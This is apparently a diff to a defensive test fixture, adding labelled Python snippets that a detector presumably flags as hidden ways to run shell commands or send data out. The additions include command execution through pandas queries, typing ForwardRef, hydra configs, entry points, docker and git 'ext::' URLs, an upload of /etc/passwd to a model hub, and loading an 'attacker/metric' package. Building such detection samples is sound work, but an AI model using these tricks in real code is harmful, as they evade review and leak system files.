@@ -494,10 +494,25 @@ SOURCES = [
     ("mmap-exec", "import ctypes, mmap\nm = mmap.mmap(-1, 64, prot=7)\nm.write(b'\\xc3')\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n", "writes machine code and calls it"),
     ("syscall", "import ctypes\nctypes.CDLL(None).syscall(39)\n", "a call of the kernel by its number"),
     ("bytecode-patch", "def f():\n    return 1\n\n\nf.__code__ = f.__code__.replace(co_consts=(None, 2), co_code=bytes([151, 0, 100, 1, 83, 0]))\nf()\n", "changes its own byte code"),
+    ("process-psutil", "import psutil\npsutil.Popen(['sh', '-c', 'echo'])\n", "through a library that watches processes"),
+    ("process-plumbum", "from plumbum import local\nlocal['sh']('-c', 'echo')\n", "through a library of commands"),
+    ("process-notebook", "from IPython.utils.process import system\nsystem('echo')\n", "through what notebooks use"),
+    ("process-cell", "from IPython.core.interactiveshell import InteractiveShell\nInteractiveShell().run_cell('!echo')\n", "as a notebook's cell"),
+    ("process-container", "import docker\ndocker.from_env().containers.run('alpine', 'sh')\n", "in a container that it starts"),
+    ("entry-point", "from importlib.metadata import EntryPoint\nEntryPoint('a', 'os:system', 'b').load()('echo')\n", "an entry point of its own making"),
+    ("forward-reference", "from typing import ForwardRef\nForwardRef(\"__import__('os').system('echo')\")._evaluate({}, {}, frozenset())\n", "a reference that is evaluated"),
+    ("query-of-a-table", "import pandas as pd\npd.DataFrame({'a': [1]}).query(\"@__import__('os').system('echo') == 1\")\n", "in a query"),
+    ("converter", "import os\nimport pandas as pd\npd.read_csv('x.csv', converters={'a': os.system})\n", "in a table of functions"),
+    ("dunder-later", "import os\n\n\nclass A:\n    pass\n\n\nA.__call__ = staticmethod(os.system)\nA()('echo')\n", "made a method afterwards"),
+    ("class-of-a-table", "import os\nA = type('A', (), {'__getitem__': staticmethod(os.system)})\nA()['echo']\n", "a method in a table of which a class is made"),
+    ("config-in-code", "from hydra.utils import instantiate\ninstantiate({'_target_': 'os.system', 'command': 'echo'})\n", "a configuration that the code holds"),
+    ("hub-upload", "import huggingface_hub\nhuggingface_hub.HfApi().upload_file(path_or_fileobj='/etc/passwd', path_in_repo='x', repo_id='a/b')\n", "sends a file to the hub"),
+    ("clone", "import git\ngit.Repo.clone_from('ext::sh -c echo', '/tmp/x')\n", "an address that is a command"),
+    ("metric", "import evaluate\nMETRIC = evaluate.load('attacker/metric')\n", "the code of somebody's metric"),
 ]
 
 # What only loosens a safety or loads what lies beside it: a person would ask what for.
-TAMPERING = ("sibling-extension", "bytecode-patch", "trust-all", "numpy-load", "yaml-unsafe", "dill-session", "torch-load-default", "tls-off", "torch-hub-local")
+TAMPERING = ("metric", "entry-point", "forward-reference", "query-of-a-table", "dunder-later", "clone", "sibling-extension", "bytecode-patch", "trust-all", "numpy-load", "yaml-unsafe", "dill-session", "torch-load-default", "tls-off", "torch-hub-local")
 
 
 def sources(family):
